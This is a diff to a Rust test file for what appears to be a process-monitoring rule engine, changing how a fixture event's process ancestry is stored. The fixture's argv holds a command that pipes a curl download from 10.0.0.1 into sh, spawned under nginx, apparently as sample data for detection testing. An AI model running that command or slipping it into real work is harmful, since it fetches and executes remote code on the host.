@@ -1,5 +1,7 @@
 //! Rule files from anybody: whatever the bytes, an answer comes and nothing breaks.
 
+use std::sync::Arc;
+
 use picket_event::{Ancestor, Event, Kind, Process, ProcessUid, Source as Seen, UnixNanos};
 use picket_rules::{RuleSet, Scratch, Source, check};
 
@@ -172,11 +174,11 @@ fn event() -> Event {
     process.argv = ["bash", "-c", "curl http://10.0.0.1/x | sh"]
         .map(Into::into)
         .to_vec();
-    process.ancestry = vec![Ancestor {
+    process.ancestry = Arc::new([Ancestor {
         uid,
         pid: 9,
         exe: "/usr/sbin/nginx".into(),
-    }];
+    }]);
     Event::new(Kind::Exec, UnixNanos(0), Seen::Replay).by(process)
 }
 
